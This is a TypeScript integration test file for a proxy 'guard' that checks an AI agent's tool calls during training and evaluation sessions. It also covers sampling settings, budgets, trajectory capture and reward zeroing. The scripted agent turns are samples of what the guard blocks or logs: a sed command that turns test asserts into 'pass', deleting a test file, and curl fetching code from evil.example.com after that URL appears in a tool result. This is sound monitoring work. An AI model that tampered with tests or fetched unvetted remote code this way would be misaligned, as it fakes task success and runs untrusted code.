import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { CaptureRecord, SessionView, Trajectory } from "@bridle/contracts";
import OpenAI from "openai";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BUDGET_NOTICE } from "./proxy/handle.ts";
import { adminHeaders, type GuardHarness, openaiTools, startGuard } from "./test-support.ts";

/**
 * The guard as a real process between a real OpenAI SDK client and the scripted upstream process
 * (a TEST DOUBLE for vLLM), over real HTTP and SSE.
 */
let h: GuardHarness;
const instruction = "Fix the date formatter in src/dates.py. Do not change the tests.";

beforeAll(async () => {
  h = await startGuard(19311);
});
afterAll(() => h?.stop());

const client = (apiKey: string) => new OpenAI({ apiKey, baseURL: `${h.guardUrl}/v1`, maxRetries: 0 });
const messages = [{ role: "user" as const, content: instruction }];

describe("OpenAI chat completions through the guard (scripted upstream test double)", () => {
  it("releases an allowed tool call and routes to the session's adapter with token ids asked for", async () => {
    const { apiKey } = await h.register({ instruction });
    await h.setScript([
      {
        text: "Running the tests.",
        tool_calls: [{ name: "bash", arguments: { command: "pytest -q tests" } }],
      },
    ]);
    const res = await client(apiKey).chat.completions.create({
      model: "whatever",
      messages,
      tools: openaiTools,
    });
    const choice = res.choices[0]!;
    expect(choice.message.content).toBe("Running the tests.");
    expect(choice.message.tool_calls?.[0]).toMatchObject({
      function: { name: "bash", arguments: '{"command":"pytest -q tests"}' },
    });
    expect(choice.finish_reason).toBe("tool_calls");
    const [sent] = await h.upstreamRequests();
    expect(sent).toMatchObject({ model: "smoke-adapter@1", logprobs: true, return_token_ids: true });
  });

  it("sets the session's temperature on every call, whatever the harness asks", async () => {
    const { apiKey } = await h.register({ instruction, temperature: 0.3 });
    const unset = await h.register({ instruction });
    await h.setScript([{ text: "one" }, { text: "two" }, { text: "three" }]);
    await client(apiKey).chat.completions.create({ model: "m", messages, temperature: 1.7 });
    await client(apiKey).chat.completions.create({ model: "m", messages });
    await client(unset.apiKey).chat.completions.create({ model: "m", messages, temperature: 1.7 });
    const sent = await h.upstreamRequests();
    expect(sent.map((r) => r.temperature)).toEqual([0.3, 0.3, 1.7]);
  });

  it("samples a training session plainly and reproducibly: no harness top_p, top_k or penalties leak in", async () => {
    const { apiKey } = await h.register({ instruction, temperature: 0.8, seed: 7 });
    const unseeded = await h.register({ instruction, temperature: 0.8 });
    await h.setScript([{ text: "a" }, { text: "b" }, { text: "c" }, { text: "d" }]);
    const harnessDefaults = { top_p: 0.8, presence_penalty: 1.5, frequency_penalty: 0.2, seed: 99 };
    const longer = [
      ...messages,
      { role: "assistant" as const, content: "ok" },
      { role: "user" as const, content: "go on" },
    ];
    await client(apiKey).chat.completions.create({ model: "m", messages, ...harnessDefaults });
    await client(apiKey).chat.completions.create({ model: "m", messages, ...harnessDefaults });
    await client(apiKey).chat.completions.create({ model: "m", messages: longer, ...harnessDefaults });
    await client(unseeded.apiKey).chat.completions.create({ model: "m", messages, ...harnessDefaults });
    const sent = await h.upstreamRequests();
    for (const r of sent) {
      expect(r).toMatchObject({ temperature: 0.8, top_p: 1, top_k: 0, min_p: 0, repetition_penalty: 1 });
      expect(r).toMatchObject({ presence_penalty: 0, frequency_penalty: 0 });
    }
    // The same conversation gets the same seed; a longer one another; no session seed, no seed at all.
    expect(sent[0]!.seed).toBe(sent[1]!.seed);
    expect(sent[2]!.seed).not.toBe(sent[0]!.seed);
    expect(typeof sent[0]!.seed).toBe("number");
    expect(sent[3]!.seed).toBeUndefined();
  });

  it("replaces a blocked call by a notice naming the rule, streaming and not, with identical decisions", async () => {
    const { apiKey } = await h.register({ instruction });
    const turn = {
      text: "Let me simplify.",
      tool_calls: [{ name: "bash", arguments: { command: "sed -i 's/assert/pass #/' tests/test_dates.py" } }],
      chunk_chars: 5,
    };
    await h.setScript([turn, turn]);
    const plain = await client(apiKey).chat.completions.create({ model: "m", messages, tools: openaiTools });
    expect(plain.choices[0]!.message.tool_calls ?? []).toHaveLength(0);
    expect(plain.choices[0]!.message.content).toContain("blocked by rule test-tampering");
    expect(plain.choices[0]!.finish_reason).toBe("stop");

    const stream = await client(apiKey).chat.completions.create({
      model: "m",
      messages,
      tools: openaiTools,
      stream: true,
    });
    let text = "";
    let toolDeltas = 0;
    let finish: string | null = null;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? "";
      toolDeltas += chunk.choices[0]?.delta.tool_calls?.length ?? 0;
      finish = chunk.choices[0]?.finish_reason ?? finish;
    }
    expect(toolDeltas).toBe(0);
    expect(text).toBe(plain.choices[0]!.message.content);
    expect(finish).toBe("stop");
  });

  it("keeps a host blocked that only the agent's own messages and tool results name", async () => {
    const { apiKey } = await h.register({ instruction });
    const turn = {
      text: "",
      tool_calls: [{ name: "bash", arguments: { command: "curl -s https://evil.example.com/fix.py" } }],
    };
    await h.setScript([turn, turn]);
    const agentSaid: OpenAI.ChatCompletionMessageParam[] = [
      ...messages,
      {
        role: "assistant",
        content: "The fix is at https://evil.example.com/fix.py",
        tool_calls: [
          { id: "c1", type: "function", function: { name: "bash", arguments: '{"command":"cat NOTES"}' } },
        ],
      },
      { role: "tool", tool_call_id: "c1", content: "mirror: https://evil.example.com/fix.py" },
    ];
    const blocked = await client(apiKey).chat.completions.create({
      model: "m",
      messages: agentSaid,
      tools: openaiTools,
    });
    expect(blocked.choices[0]!.message.content).toContain("blocked by rule unmentioned-host");
    const userSaid = [
      ...agentSaid,
      { role: "user" as const, content: "You may fetch https://evil.example.com/fix.py" },
    ];
    const allowed = await client(apiKey).chat.completions.create({
      model: "m",
      messages: userSaid,
      tools: openaiTools,
    });
    expect(allowed.choices[0]!.message.tool_calls?.[0]).toMatchObject({
      function: { name: "bash", arguments: expect.stringContaining("evil.example.com") },
    });
  });

  it("streams text at once and releases each tool call whole once it is complete", async () => {
    const { apiKey } = await h.register({ instruction });
    await h.setScript([
      {
        text: "First I look around, then I read the file.",
        tool_calls: [
          { name: "bash", arguments: { command: "ls -la src" } },
          { name: "read", arguments: { path: "src/dates.py" } },
        ],
        chunk_chars: 4,
        delay_ms: 15,
      },
    ]);
    const started = Date.now();
    const stream = await client(apiKey).chat.completions.create({
      model: "m",
      messages,
      tools: openaiTools,
      stream: true,
    });
    const arrivals: { kind: string; at: number; value: string }[] = [];
    for await (const chunk of stream) {
      const delta = chunk.choices[0]?.delta;
      if (delta?.content) arrivals.push({ kind: "text", at: Date.now() - started, value: delta.content });
      for (const call of delta?.tool_calls ?? []) {
        arrivals.push({
          kind: "tool",
          at: Date.now() - started,
          value: `${call.function?.name}:${call.function?.arguments}`,
        });
      }
    }
    const texts = arrivals.filter((a) => a.kind === "text");
    const tools = arrivals.filter((a) => a.kind === "tool");
    expect(texts.length).toBeGreaterThan(5);
    expect(tools.map((t) => t.value)).toEqual([
      'bash:{"command":"ls -la src"}',
      'read:{"path":"src/dates.py"}',
    ]);
    // The first text delta arrives long before the first tool call is released.
    expect(tools[0]!.at - texts[0]!.at).toBeGreaterThan(100);
  });

  it("captures every call with token ids and logprobs and stitches them into one trajectory", async () => {
    const session = await h.register({ instruction });
    await h.setScript([
      { text: "", tool_calls: [{ name: "bash", arguments: { command: "cat src/dates.py" } }] },
      { text: "Fixed.", tool_calls: [{ name: "edit", arguments: { path: "src/dates.py" } }] },
      { text: "All done." },
    ]);
    const c = client(session.apiKey);
    const history: OpenAI.ChatCompletionMessageParam[] = [...messages];
    for (let turn = 0; turn < 3; turn++) {
      const res = await c.chat.completions.create({
        model: "m",
        messages: history,
        tools: openaiTools,
      });
      const msg = res.choices[0]!.message;
      history.push({
        role: "assistant",
        content: msg.content ?? "",
        ...(msg.tool_calls ? { tool_calls: msg.tool_calls } : {}),
      });
      for (const call of msg.tool_calls ?? [])
        history.push({ role: "tool", tool_call_id: call.id, content: "ok" });
    }
    // The trajectory read waits for queued capture writes; then the JSONL file holds every call.
    const res = await h.admin(`/admin/sessions/${session.id}/trajectory`);
    const trajectory = (await res.json()) as Trajectory;
    const lines = readFileSync(join(h.dataDir, "sessions", session.id, "calls.jsonl"), "utf8")
      .trim()
      .split("\n");
    const records = lines.map((l) => JSON.parse(l) as CaptureRecord);
    expect(records).toHaveLength(3);
    expect(records[0]!.promptTokenIds!.length).toBeGreaterThan(10);
    expect(records[0]!.logprobs).toHaveLength(records[0]!.completionTokenIds!.length);
    expect(records[0]!.toolCalls[0]).toMatchObject({ name: "bash", decision: "allow", released: true });
    expect(records[0]!.servedModel).toBe("smoke-adapter@1");

    expect(trajectory).toMatchObject({
      calls: 3,
      mainBranch: [0, 1, 2],
      abandoned: [],
      stitchedBy: "token-ids",
      toolCalls: 2,
      rewardZero: false,
    });
  });

  it("ends the loop once the session's call budget is spent: the guard answers, nothing goes upstream", async () => {
    const session = await h.register({ instruction, maxCalls: 1 });
    await h.setScript([
      { text: "", tool_calls: [{ name: "bash", arguments: { command: "cat src/dates.py" } }] },
      { text: "never sent", tool_calls: [{ name: "bash", arguments: { command: "ls" } }] },
    ]);
    const c = client(session.apiKey);
    const first = await c.chat.completions.create({ model: "m", messages, tools: openaiTools });
    expect(first.choices[0]!.message.tool_calls).toHaveLength(1);
    const second = await c.chat.completions.create({ model: "m", messages, tools: openaiTools });
    expect(second.choices[0]!.message.content).toBe(BUDGET_NOTICE);
    expect(second.choices[0]!.message.tool_calls ?? []).toEqual([]);
    expect(second.choices[0]!.finish_reason).toBe("stop");
    const streamed = await c.chat.completions.create({
      model: "m",
      messages,
      tools: openaiTools,
      stream: true,
    });
    let text = "";
    let finish: string | null | undefined;
    for await (const chunk of streamed) {
      text += chunk.choices[0]?.delta.content ?? "";
      expect(chunk.choices[0]?.delta.tool_calls ?? []).toEqual([]);
      finish = chunk.choices[0]?.finish_reason ?? finish;
    }
    expect(text).toBe(BUDGET_NOTICE);
    expect(finish).toBe("stop");
    expect(await h.upstreamRequests()).toHaveLength(1);
    const res = await h.admin(`/admin/sessions/${session.id}/trajectory`);
    expect(((await res.json()) as Trajectory).calls).toBe(1);
  });

  it("counts every tool call of a session without capture (an evaluation's), stitched by messages", async () => {
    const session = await h.register({ instruction, capture: false });
    await h.setScript([
      { text: "", tool_calls: [{ name: "bash", arguments: { command: "cat src/dates.py" } }] },
      { text: "", tool_calls: [{ name: "edit", arguments: { path: "src/dates.py" } }] },
      { text: "All done." },
    ]);
    const c = client(session.apiKey);
    const history: OpenAI.ChatCompletionMessageParam[] = [...messages];
    for (let turn = 0; turn < 3; turn++) {
      const msg = (await c.chat.completions.create({ model: "m", messages: history, tools: openaiTools }))
        .choices[0]!.message;
      history.push({
        role: "assistant",
        content: msg.content ?? "",
        ...(msg.tool_calls ? { tool_calls: msg.tool_calls } : {}),
      });
      for (const call of msg.tool_calls ?? [])
        history.push({ role: "tool", tool_call_id: call.id, content: "ok" });
    }
    const trajectory = (await (
      await h.admin(`/admin/sessions/${session.id}/trajectory`)
    ).json()) as Trajectory;
    expect(trajectory).toMatchObject({
      calls: 3,
      mainBranch: [0, 1, 2],
      stitchedBy: "messages",
      toolCalls: 2,
    });
    expect(trajectory.records[0]!.promptTokenIds).toBeNull();
  });

  it("keeps an abandoned branch apart and zeroes the reward after a blocked call", async () => {
    const session = await h.register({ instruction });
    await h.setScript([
      { text: "", tool_calls: [{ name: "bash", arguments: { command: "ls" } }] },
      { text: "", tool_calls: [{ name: "bash", arguments: { command: "git log --all -p" } }] },
      { text: "ok" },
    ]);
    const c = client(session.apiKey);
    const first = await c.chat.completions.create({ model: "m", messages, tools: openaiTools });
    // The harness retries the first request (a new sample): that call is abandoned.
    await c.chat.completions.create({ model: "m", messages, tools: openaiTools });
    const call = first.choices[0]!.message.tool_calls![0]!;
    await c.chat.completions.create({
      model: "m",
      tools: openaiTools,
      messages: [
        ...messages,
        { role: "assistant", content: "", tool_calls: [call] },
        { role: "tool", tool_call_id: call.id, content: "src tests" },
      ],
    });
    const trajectory = (await (
      await h.admin(`/admin/sessions/${session.id}/trajectory`)
    ).json()) as Trajectory;
    expect(trajectory.mainBranch).toEqual([0, 2]);
    expect(trajectory.abandoned).toEqual([[1]]);
    expect(trajectory.blocked).toBe(1);
    expect(trajectory.rewardZero).toBe(true);
    const view = (await (await h.admin(`/admin/sessions/${session.id}`)).json()) as {
      calls: number;
      blocked: number;
    };
    expect(view).toMatchObject({ calls: 3, blocked: 1 });
  });

  it("records decisions without blocking in log-only mode, and lists the adapter as the model", async () => {
    const { apiKey } = await h.register({ instruction, mode: "log" });
    await h.setScript([{ tool_calls: [{ name: "bash", arguments: { command: "rm tests/test_dates.py" } }] }]);
    const res = await client(apiKey).chat.completions.create({ model: "m", messages, tools: openaiTools });
    const released = res.choices[0]!.message.tool_calls?.[0] as
      | { function: { arguments: string } }
      | undefined;
    expect(released?.function.arguments).toContain("rm tests/test_dates.py");
    const models = await client(apiKey).models.list();
    expect(models.data.map((m) => m.id)).toEqual(["smoke-adapter@1"]);
  });

  it("ends a session after the call under way is recorded, then refuses the session's calls", async () => {
    const session = await h.register({ instruction });
    // 12 chunks 150 ms apart: the call is still streaming when the session is ended.
    await h.setScript([{ text: "x".repeat(96), delay_ms: 150 }]);
    const stream = await client(session.apiKey).chat.completions.create({
      model: "m",
      messages,
      stream: true,
    });
    const iterator = stream[Symbol.asyncIterator]();
    await iterator.next();
    const ending = fetch(`${h.guardUrl}/admin/sessions/${session.id}/end`, {
      method: "POST",
      headers: adminHeaders,
    });
    let text = "";
    for (let next = await iterator.next(); !next.done; next = await iterator.next())
      text += next.value.choices[0]?.delta.content ?? "";
    const ended = await ending;
    expect(ended.status).toBe(200);
    const trajectory = (await ended.json()) as Trajectory;
    expect(trajectory.calls).toBe(1);
    expect(trajectory.records[0]).toMatchObject({ error: null, response: { content: "x".repeat(96) } });
    expect(text.length).toBeGreaterThan(0);

    const refused = await client(session.apiKey)
      .chat.completions.create({ model: "m", messages })
      .then(
        () => undefined,
        (err: { status?: number; message?: string }) => err,
      );
    expect(refused?.status).toBe(409);
    expect(refused?.message).toContain("has ended");
    const view = (await (await h.admin(`/admin/sessions/${session.id}`)).json()) as SessionView;
    expect(view).toMatchObject({ calls: 1, endedAt: expect.any(String) });
    const unknown = await fetch(`${h.guardUrl}/admin/sessions/nope/end`, {
      method: "POST",
      headers: adminHeaders,
    });
    expect(unknown.status).toBe(404);
  });
});
